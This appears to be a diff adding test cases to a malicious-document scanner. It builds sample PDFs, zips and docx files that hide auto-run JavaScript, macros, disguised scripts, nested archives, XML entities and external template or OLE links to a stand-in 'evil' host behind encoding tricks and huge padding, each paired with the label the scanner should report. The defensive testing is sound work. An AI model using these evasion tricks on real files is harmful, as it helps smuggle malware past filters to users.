@@ -42,6 +42,38 @@ def portable_documents():
         "pdf", "launch.pdf", PDF % (b"/OpenAction<</S/Launch/F(cmd.exe)>>", b""), "pdf_script"
     )
     yield document("pdf", "hidden.pdf", PDF % (b"/OpenAction 3 0 R", listed), "pdf_script")
+    yield document(
+        "pdf",
+        "hidden-by-two-filters.pdf",
+        PDF
+        % (
+            b"/OpenAction 3 0 R",
+            listed.replace(b"/FlateDecode", b"[/ASCIIHexDecode/FlateDecode]").replace(
+                hidden, hidden.hex().encode()
+            ),
+        ),
+        "pdf_script",
+    )
+    yield document(
+        "pdf",
+        "hidden-on-a-mac.pdf",
+        PDF % (b"/OpenAction 3 0 R", listed.replace(b"stream\n", b"stream\r", 1)),
+        "pdf_script",
+    )
+    late = zlib.compress(b" " * (17 << 20) + b"<</S/JavaScript/JS(app.alert(1))>>")
+    yield document(
+        "pdf",
+        "hidden-behind-spaces.pdf",
+        PDF % (b"/OpenAction 3 0 R", listed.replace(hidden, late)),
+        "pdf_script",
+    )
+    crowd = b"%/ObjStm\n" * 5000 + b"%" + b" " * 3000 + b"\n"
+    yield document(
+        "pdf",
+        "hidden-in-a-crowd.pdf",
+        PDF % (b"/OpenAction 3 0 R", crowd + listed),
+        "pdf_script",
+    )
     yield document("pdf", "page.pdf", HTML, "wrong_type")
     yield document("pdf", "html-behind.pdf", good + HTML * 5, "damaged")
     yield document("pdf", "archive.pdf", good + archives.zipped({"a.txt": "a"}), "damaged")
@@ -83,6 +115,21 @@ def zips():
     yield document(
         "archive", "renamed-program.zip", zipped({"invoice.dat": EXE}), "archive_program"
     )
+    yield document(
+        "archive", "dotted-program.zip", zipped({"invoice.vbs.": "MsgBox 1"}), "archive_program"
+    )
+    yield document(
+        "archive",
+        "another-kind-within.zip",
+        zipped({"a.7z": b"7z\xbc\xaf\x27\x1c" + bytes(60)}),
+        "archive_nested",
+    )
+    yield document(
+        "archive",
+        "large-directory.zip",
+        archives.with_zip64_end(zipped({"a.txt": "a"}), directory_bytes=1 << 30),
+        "archive_entries",
+    )
     yield document("archive", "disguised.zip", zipped({"photo.jpg": HTML}), "archive_wrong_type")
     yield document("archive", "behind.zip", zipped({"a.txt": "a"}) + HTML, "damaged")
     yield document("archive", "in-front.zip", HTML + zipped({"a.txt": "a"}), "wrong_type")
@@ -96,6 +143,39 @@ def offices():
     template = '<Relationship Type="http://schemas/attachedTemplate" Target="//evil/x.dotm" TargetMode="External"/>'
     yield document(
         "office", "template.docx", docx(**{"word/_rels/settings.xml.rels": template}), "macros"
+    )
+    yield document(
+        "office",
+        "template-by-another-name.docx",
+        docx(**{"word/_rels/x.xml.rels": template.replace('"', "'").encode("utf-16")}),
+        "macros",
+    )
+    linked = template.replace("attachedTemplate", "oleObject").replace("//evil", "https://evil")
+    yield document(
+        "office", "object.docx", docx(**{"word/_rels/document.xml.rels": linked}), "macros"
+    )
+    enabled = archives.TYPES.replace("wordprocessingml.document.main", "macro&#69;nabled.main")
+    yield document(
+        "office",
+        "late-macros.docx",
+        docx(**{"[Content_Types].xml": enabled.replace("?>", f"?><!--{' ' * 2_000_000}-->", 1)}),
+        "macros",
+    )
+    yield document(
+        "office",
+        "entities-in-utf16.docx",
+        docx(**{"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")}),
+        "xml_entities",
+    )
+    yield document(
+        "office",
+        "entities-behind-a-comment.docx",
+        docx(
+            **{
+                "word/a.xml": f"<!--{' ' * 2_000_000}-->" + '<!DOCTYPE a [<!ENTITY b "c">]><a/>',
+            }
+        ),
+        "xml_entities",
     )
     yield document(
         "office",
